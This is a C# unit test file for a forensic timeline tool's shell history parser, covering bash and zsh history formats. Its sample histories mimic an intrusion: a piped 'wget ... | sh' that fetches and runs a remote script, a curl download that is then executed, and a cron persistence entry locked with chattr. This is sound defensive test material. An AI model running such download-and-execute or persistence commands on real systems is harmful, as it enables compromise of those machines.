using Timeline.Core.Events;
using Timeline.Parsers.Linux.BashHistory;
using Timeline.Tests.Support;
using Xunit;

namespace Timeline.Tests.Parsers.Linux.BashHistory;

public sealed class BashHistoryParserTests
{
    private static readonly BashHistoryParser Parser = new();
    private static readonly long Mtime = SampleContext.DefaultMtime.UtcTicks;

    private static long Epoch(long seconds) => DateTimeOffset.FromUnixTimeSeconds(seconds).UtcTicks;

    [Fact]
    public void PlainHistoryKeepsFileOrderAndSortsAtTheFileMtime()
    {
        var outcome = ParserHarness.ParseText(Parser, "ls -la\ncd /tmp\n\nwget http://203.0.113.9/x\n", "/root/.bash_history");

        Assert.Equal([1L, 2L, 4L], outcome.Events.Select(e => e.Origin.Position));
        Assert.All(outcome.Events, e =>
        {
            Assert.Null(e.Ticks);
            Assert.Equal(TimeQuality.OrderOnly, e.TimeQuality);
            Assert.Equal(Mtime, e.SortTicks);
            Assert.Equal("root", e.Fields.Get("user"));
            Assert.Equal("bash", e.Fields.Get("shell"));
        });
        Assert.Equal("wget http://203.0.113.9/x", outcome.Events[2].Message);
        Assert.Empty(outcome.Warnings);
    }

    [Fact]
    public void TimestampedHistoryStampsTheFollowingCommandExactly()
    {
        var outcome = ParserHarness.ParseText(Parser, "#1709349302\nw\n#1709349318\nwget -q -O - http://203.0.113.9/d.sh | sh\n", "/home/alice/.bash_history");

        Assert.Equal(2, outcome.Events.Count);
        Assert.Equal(Epoch(1709349302), outcome.Events[0].Ticks);
        Assert.Equal(Epoch(1709349318), outcome.Events[1].Ticks);
        Assert.All(outcome.Events, e => Assert.Equal(TimeQuality.Exact, e.TimeQuality));
        Assert.All(outcome.Events, e => Assert.Equal(e.Ticks, e.SortTicks));
        Assert.Equal([2L, 4L], outcome.Events.Select(e => e.Origin.Position));
        Assert.Equal("alice", outcome.Events[0].Fields.Get("user"));
    }

    [Fact]
    public void TimestampedHistoryJoinsTheLinesOfAMultiLineCommand()
    {
        var text = "#1709349340\ncat > /tmp/x <<'EOF'\n* * * * * root sh /tmp/y\nEOF\n\n#1709349345\nchattr +ia /tmp/x\n";

        var outcome = ParserHarness.ParseText(Parser, text, "root.bash_history");

        Assert.Equal(2, outcome.Events.Count);
        Assert.Equal("cat > /tmp/x <<'EOF'\n* * * * * root sh /tmp/y\nEOF", outcome.Events[0].Message);
        Assert.Equal(outcome.Events[0].Message, outcome.Events[0].Fields.Get("command"));
        Assert.Equal(2, outcome.Events[0].Origin.Position);
        Assert.Equal(7, outcome.Events[1].Origin.Position);
    }

    [Fact]
    public void DesynchronisedHistoryBoundsUnstampedCommandsByTheNextStampOrTheMtime()
    {
        // Lines 1-2 predate HISTTIMEFORMAT; the stamps go backwards (two sessions); line 7-8 follow
        // the stamped line 6 one per line; line 10 was appended by a session without stamps.
        var text = "ls\ndf -h\n#1709349500\ncd /var/tmp\n#1709349400\ncurl -o x http://198.51.100.23/x\n./x\n#1709349600\nrm x\nexit\n";

        var outcome = ParserHarness.ParseText(Parser, text, "/home/bob/.bash_history");
        var byLine = outcome.Events.ToDictionary(e => e.Origin.Position);

        Assert.Equal([1L, 2L, 4L, 6L, 7L, 9L, 10L], outcome.Events.Select(e => e.Origin.Position));
        Assert.Equal(Epoch(1709349500), byLine[1].SortTicks);
        Assert.Equal(Epoch(1709349500), byLine[2].SortTicks);
        Assert.Equal(Epoch(1709349500), byLine[4].Ticks);
        Assert.Equal(Epoch(1709349400), byLine[6].Ticks);
        Assert.Null(byLine[7].Ticks);
        Assert.Equal(TimeQuality.OrderOnly, byLine[7].TimeQuality);
        Assert.Equal(Epoch(1709349600), byLine[7].SortTicks);
        Assert.Equal(Epoch(1709349600), byLine[9].Ticks);
        Assert.Null(byLine[10].Ticks);
        Assert.Equal(Mtime, byLine[10].SortTicks);
        Assert.Empty(outcome.Warnings);
    }

    [Fact]
    public void AStampWithoutACommandIsAWarningNotAnEvent()
    {
        var outcome = ParserHarness.ParseText(Parser, "#1709349302\nw\n#1709349303\n#1709349304\nid\n#1709349305\n", "root.bash_history");

        Assert.Equal(["w", "id"], outcome.Events.Select(e => e.Message));
        Assert.Equal([3L, 6L], outcome.Warnings.Select(w => w.Origin.Position));
        Assert.Contains("not followed by a command", outcome.Warnings[0].Message, StringComparison.Ordinal);
    }

    [Fact]
    public void ZshExtendedHistoryCarriesItsOwnStampsAndContinuations()
    {
        var text = ": 1709350000:0;cd /dev/shm\n: 1709350020:3;for p in a b; do\\\n  pkill $p\\\ndone\nuptime\n";

        var outcome = ParserHarness.ParseText(Parser, text, "/home/carol/.zsh_history");

        Assert.Equal(3, outcome.Events.Count);
        Assert.Equal(Epoch(1709350000), outcome.Events[0].Ticks);
        Assert.Equal("for p in a b; do\n  pkill $p\ndone", outcome.Events[1].Message);
        Assert.Equal("3", outcome.Events[1].Fields.Get("elapsed"));
        Assert.Equal("zsh", outcome.Events[1].Fields.Get("shell"));
        Assert.Null(outcome.Events[2].Ticks);
        Assert.Equal(5, outcome.Events[2].Origin.Position);
    }

    [Fact]
    public void EventsUseTheDefaultHostAndRecordTheHistoryFile()
    {
        var settings = new SampleContext(SampleContext.DefaultMtime, null, "UTC", null, "web01");

        var outcome = ParserHarness.ParseText(Parser, "id\n", "evidence/home/alice/.bash_history", settings);

        Assert.Equal("web01", outcome.Events[0].Host);
        Assert.Equal("evidence/home/alice/.bash_history", outcome.Events[0].Fields.Get("history_file"));
        Assert.Equal("linux/bash-history", outcome.Events[0].Parser);
    }

    [Fact]
    public void AnUnknownPathGivesNoUser()
    {
        var outcome = ParserHarness.ParseText(Parser, "id\n", "dump/history.txt");

        Assert.False(outcome.Events[0].Fields.ContainsKey("user"));
        Assert.False(outcome.Events[0].Fields.ContainsKey("shell"));
    }

    [Fact]
    public void BinaryJunkIsWarnedAndTheRestIsRead()
    {
        var bytes = "ls\n"u8.ToArray().Concat(new byte[] { 0xFF, 0x00, 0xFE, (byte)'\n' }).Concat("id\n"u8.ToArray()).ToArray();

        var outcome = ParserHarness.ParseBytes(Parser, bytes, "/root/.bash_history");

        Assert.Equal(3, outcome.Events.Count);
        Assert.Equal("id", outcome.Events[2].Message);
        Assert.NotEmpty(outcome.Warnings);
    }
}
